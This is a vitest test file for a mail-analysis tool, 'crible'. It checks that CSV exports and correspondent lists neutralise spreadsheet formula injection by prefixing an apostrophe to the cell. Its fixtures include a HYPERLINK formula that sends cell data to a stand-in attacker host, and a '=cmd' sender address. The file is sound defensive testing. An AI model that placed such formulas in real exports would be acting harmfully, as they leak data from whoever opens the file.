// Every CSV a journalist may open in a spreadsheet makes formula cells inert: a hostile subject such as
// `=HYPERLINK(…)` or `@SUM(…)` starts with an apostrophe, numbers and ordinary text stay as they are.
// Checked on the shared writer and on `crible export --format csv` and `crible correspondents --csv`.
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { inertCell, toCsv } from '../src/report/csv.ts';
import { crible, message, tempDir } from './helpers/mail.ts';

const HOSTILE = '=HYPERLINK("http://attacker.invalid/?"&A1,"Cliquez")';

describe('CSV cells a spreadsheet would run', () => {
  it('start with an apostrophe; numbers and plain text are kept', () => {
    for (const formula of ['=1+1', '+33 1 23', '-2+3', '@SUM(A1)', '\t=1', '\r=1'])
      expect(inertCell(formula)).toBe(`'${formula}`);
    expect(inertCell('Budget 2017')).toBe('Budget 2017');
    expect(toCsv([{ n: -5, s: '-5', t: 'ok' }], { header: true })).toBe("n,s,t\n-5,'-5,ok\n");
  });

  it('are inert in crible export and crible correspondents', async () => {
    const root = tempDir();
    mkdirSync(join(root, 'dump'));
    writeFileSync(
      join(root, 'dump', 'a.eml'),
      message({ id: 'hostile', subject: HOSTILE, from: '"@evil" <=cmd@attacker.invalid>' }),
    );
    const caseDir = join(root, 'case');
    expect((await crible(['ingest', join(root, 'dump'), '--case', caseDir])).code).toBe(0);
    const out = join(root, 'export.csv');
    expect((await crible(['export', '--case', caseDir, '--format', 'csv', '--out', out])).code).toBe(0);
    const csv = readFileSync(out, 'utf8');
    expect(csv).toContain(`"'=HYPERLINK(""http://attacker.invalid/?""&A1,""Cliquez"")"`);
    expect(csv).not.toMatch(/(^|,)"?=HYPERLINK/m);
    const people = await crible(['correspondents', '--case', caseDir, '--csv']);
    expect(people.stdout).toContain("'=cmd@attacker.invalid");
    expect(people.stdout).not.toMatch(/(^|,)=cmd/m);
  });
});
